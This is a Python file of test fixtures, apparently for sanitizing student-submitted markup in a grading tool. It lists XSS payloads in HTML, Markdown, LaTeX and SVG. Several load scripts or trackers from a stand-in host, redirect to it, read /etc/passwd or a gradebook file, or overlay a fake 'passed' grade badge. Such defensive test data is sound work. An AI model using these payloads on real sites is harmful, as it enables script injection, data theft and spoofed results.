"""Markup by which a student might run a script, load something, or change the page."""

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/track.png">',
    "![x](https://evil.example/track.png)",
    "![x](file:///etc/passwd)",
    "![x](../../gradebook.db)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<form action=https://evil.example><input name=a><button>go</button></form>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0' class='badge passed' id='results-title'>10 of 10</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<object data=x></object><embed src=x>",
    "<video src=x onerror=alert(1) autoplay></video><audio src=x>",
    "<details open ontoggle=alert(1)>x</details>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1)&gt;">',
    "<math href=javascript:alert(1)>x</math>",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "</main></body><script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<a target=_top href=//evil.example>x</a>",
]

# Figures, with a title or a description that is more than words.
SVG_ATTACKS = [
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'width="9" height="9">{inside}</svg>'
    for inside in (
        "<title><script>alert(1)</script></title>",
        "<script>alert(1)</script>",
        "<script href='https://evil.example/x.js'/>",
        "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/>"
        "</foreignObject>",
        "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example'/>"
        "</foreignObject>",
        "<image href='https://evil.example/track.png' width='9' height='9'/>",
        "<image xlink:href='file:///etc/passwd' width='9' height='9'/>",
        "<use href='https://evil.example/x.svg#a'/>",
        "<style>@import url(https://evil.example/x.css);</style>",
        "<rect width='9' height='9' style='fill: url(https://evil.example/x#a)'/>",
        "<a href='javascript:alert(1)'><rect width='9' height='9'/></a>",
        "<set attributeName='onmouseover' to='alert(1)'/>",
        "<animate attributeName='href' values='javascript:alert(1)' begin='0s'/>",
    )
]
